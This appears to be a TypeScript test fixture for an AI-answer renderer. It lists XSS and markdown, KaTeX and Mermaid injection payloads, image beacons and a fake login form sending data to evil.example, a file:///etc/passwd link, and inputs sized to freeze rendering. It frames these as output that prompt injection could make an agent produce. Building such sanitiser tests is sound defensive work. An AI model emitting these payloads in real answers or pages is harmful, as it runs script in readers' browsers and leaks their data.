/**
 * Answers an attacker could make an agent write (prompt injection, a poisoned web page, a
 * hostile agent author). Each one, if rendered naively, would run script, load a foreign
 * resource, restyle the page or send the reader somewhere dangerous. Every payload that could
 * run tries to set `window.__pwned`.
 */
export const HOSTILE_PAYLOADS: readonly string[] = [
  // Raw HTML, block and inline
  '<script>window.__pwned = 1</script>',
  'Hello <script>window.__pwned = 1</script> world',
  '<script src="https://evil.example/x.js"></script>',
  '<SCRIPT>window.__pwned=1</SCRIPT>',
  '<img src=x onerror="window.__pwned=1">',
  'inline <img src=x onerror=window.__pwned=1> image',
  '<svg onload="window.__pwned=1"><circle r="10"/></svg>',
  '<svg><script>window.__pwned=1</script></svg>',
  '<svg><a xlink:href="javascript:window.__pwned=1"><text>click</text></a></svg>',
  '<iframe src="javascript:window.__pwned=1"></iframe>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<object data="javascript:window.__pwned=1"></object>',
  '<embed src="data:text/html,<script>parent.__pwned=1</script>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>',
  '<math href="javascript:window.__pwned=1">click</math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:window.__pwned=1">x</maction></math>',
  '<a href="javascript:window.__pwned=1">click me</a>',
  '<a href=javascript:window.__pwned=1>unquoted</a>',
  '<details open ontoggle="window.__pwned=1"><summary>x</summary></details>',
  '<body onload="window.__pwned=1">',
  '<input autofocus onfocus="window.__pwned=1">',
  '<video><source onerror="window.__pwned=1"></video>',
  '<marquee onstart="window.__pwned=1">x</marquee>',
  // Markdown links
  '[click](javascript:window.__pwned=1)',
  '[click](JaVaScRiPt:window.__pwned=1)',
  '[click](java&#115;cript:window.__pwned=1)',
  '[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__pwned=1)',
  '[click](&#x6A;avascript&colon;window.__pwned=1)',
  '[click](java\tscript:window.__pwned=1)',
  '[click](<java\nscript:window.__pwned=1>)',
  '[click]( \u0001javascript:window.__pwned=1)',
  '[click](%6Aavascript:window.__pwned=1)',
  '[click](javascript%3Awindow.__pwned=1)',
  '[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+)',
  '[click](data:text/html,<script>parent.__pwned=1</script>)',
  '[click](vbscript:msgbox(1))',
  '[click](VBScript:msgbox(1))',
  '[click](file:///etc/passwd)',
  '[click](<javascript:window.__pwned=1>)',
  '[click](javascript://%0Awindow.__pwned=1)',
  '[**bold** click](javascript:window.__pwned=1 "title")',
  // Autolinks and references
  '<javascript:window.__pwned=1>',
  '<data:text/html,<script>parent.__pwned=1</script>>',
  '<vbscript:msgbox(1)>',
  '[click][evil]\n\n[evil]: javascript:window.__pwned=1',
  '[evil]\n\n[evil]: JAVASCRIPT:window.__pwned=1 "t"',
  '[click][x]\n\n[x]: data:text/html,<script>parent.__pwned=1</script>',
  // Images
  '![x](javascript:window.__pwned=1)',
  '![x](data:image/svg+xml,<svg onload=parent.__pwned=1>)',
  '![x](https://evil.example/collect?secret=42)',
  '![x](//evil.example/collect.png)',
  '![x](\\\\evil.example/collect.png)',
  '![x][img]\n\n[img]: https://evil.example/track.png',
  '[![x](javascript:window.__pwned=1)](javascript:window.__pwned=1)',
  '![x" onerror="window.__pwned=1](/a.png)',
  // CSS tricks
  '<style>body { display: none }</style>',
  '<style>@import url("https://evil.example/x.css");</style>',
  '<div style="position:fixed;inset:0;background:red">overlay</div>',
  '<p style="background:url(javascript:window.__pwned=1)">x</p>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  // Forms, navigation and the document
  '<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">',
  '<base href="https://evil.example/">',
  '<button formaction="javascript:window.__pwned=1">x</button>',
  // Nested, unclosed and malformed
  '<<script>script>window.__pwned=1<</script>/script>',
  '<scr<script>ipt>window.__pwned=1</scr</script>ipt>',
  '<img src="x" onerror="window.__pwned=1"',
  '<div><span><a href="javascript:window.__pwned=1">unclosed',
  '<!--><img src=x onerror=window.__pwned=1>-->',
  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
  '<template><script>window.__pwned=1</script></template>',
  '> <script>window.__pwned=1</script>\n> quoted',
  '- <img src=x onerror=window.__pwned=1>\n- [x](javascript:window.__pwned=1)',
  '| a | b |\n|---|---|\n| <script>window.__pwned=1</script> | [x](javascript:window.__pwned=1) |',
  '```html\n<script>window.__pwned=1</script>\n```',
  '`<img src=x onerror=window.__pwned=1>`',
  '# <svg onload=window.__pwned=1>',
  '**<iframe src=javascript:window.__pwned=1>**',
  // Formulas (KaTeX): trusted commands, styles, runaway macros and giant sizes
  '$\\href{javascript:window.__pwned=1}{click}$',
  '$$\\url{javascript:window.__pwned=1}$$',
  '\\(\\href{https://evil.example/collect}{x}\\)',
  '$\\htmlData{onclick=window.__pwned=1}{x}$',
  '$\\htmlStyle{position:fixed;inset:0;background:red}{overlay}$',
  '$\\htmlClass{btn-primary}{x}\\htmlId{root}{y}$',
  '$\\includegraphics[height=9em]{https://evil.example/track.png}$',
  '$$\\def\\a{\\a\\a}\\a$$',
  '$\\def\\x#1{#1#1}' + '\\x{'.repeat(24) + 'a' + '}'.repeat(24) + '$',
  '$$\\rule{100000em}{100000em}$$',
  '\\[\\raisebox{5000em}{x}\\kern-9000em\\mkern-90000mu y\\]',
  '$\\textcolor{url(javascript:window.__pwned=1)}{x}$',
  '$\\color{expression(window.__pwned=1)}x$',
  '$$\\text{<script>window.__pwned=1</script>}\\; <img src=x onerror=window.__pwned=1>$$',
  '\\(\\mathrm{<svg onload=window.__pwned=1>}\\)',
  // Diagrams (Mermaid): callbacks, script links, HTML labels and directives that try to loosen them
  '```mermaid\ngraph TD\n  A[Start] --> B[End]\n  click A callback "Run"\n  click B call window.eval("window.__pwned=1")\n```',
  '```mermaid\ngraph TD\n  A --> B\n  click A "javascript:window.__pwned=1" "Go"\n  click B href "javascript:window.__pwned=1"\n```',
  '```mermaid\ngraph TD\n  A["<img src=x onerror=window.__pwned=1>"] --> B["<a href=\'javascript:window.__pwned=1\'>x</a>"]\n```',
  '```mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\ngraph TD\n  A["<img src=x onerror=window.__pwned=1>"] --> B\n  click A call window.eval("window.__pwned=1")\n```',
  '```mermaid\n%%{init: {"themeCSS": "body { display: none } @import url(https://evil.example/x.css);"}}%%\ngraph TD\n  A --> B\n```',
  '```mermaid\nsequenceDiagram\n  participant A\n  link A: Evil @ javascript:window.__pwned=1\n  A->>A: <script>window.__pwned=1</script>\n```',
  '```mermaid\ngraph TD\n' + '  A --> B\n'.repeat(400) + '```',
];

const mindmap = (children: number): string =>
  '```mermaid\nmindmap\n  root((Plan))\n' + Array.from({ length: children }, (_, index) => `    Idea ${index + 1}\n`).join('') + '```';

const matrix = (chars: number): string => {
  const row = `${'x_{1} & '.repeat(39)}x_{1} \\\\\n`;
  return `$$\n\\begin{pmatrix}\n${row.repeat(Math.ceil(chars / row.length))}\\end{pmatrix}\n$$`;
};

/**
 * Answers that would hold the page's main thread for seconds to minutes if rendered naively
 * (issue 40: a mind map of 300 children froze Chromium 18 s, `_a` × 25,000 took 6.4 s in marked,
 * a 60 kB matrix 27 s in KaTeX). Each one is past a rendering budget (render-budgets.ts), so it
 * is shown as its source. The unit tests count that the budgets trigger; the browser test renders
 * them all, live and on a share page, and watches for long tasks.
 */
export const HEAVY_ANSWERS: Readonly<Record<string, string>> = {
  'mind map of 300 children': mindmap(300),
  'mind map of 600 children': mindmap(600),
  'mind map of 1,500 children': mindmap(1_500),
  'flowchart of 400 edges': '```mermaid\ngraph TD\n' + Array.from({ length: 400 }, (_, index) => `  N${index} --> N${index + 1}\n`).join('') + '```',
  'underscores × 25,000': '_a'.repeat(25_000),
  'asterisks × 100,000': '*a'.repeat(100_000),
  'mixed emphasis × 20,000': '_*a '.repeat(20_000),
  'blockquotes 3,000 deep': '> '.repeat(3_000) + 'deep',
  'list 300 deep': Array.from({ length: 300 }, (_, index) => `${'  '.repeat(index)}- level ${index + 1}`).join('\n'),
  '60 kB matrix': matrix(60_000),
  'formula nested 300 deep': `$$${'\\sqrt{'.repeat(300)}x${'}'.repeat(300)}$$`,
};
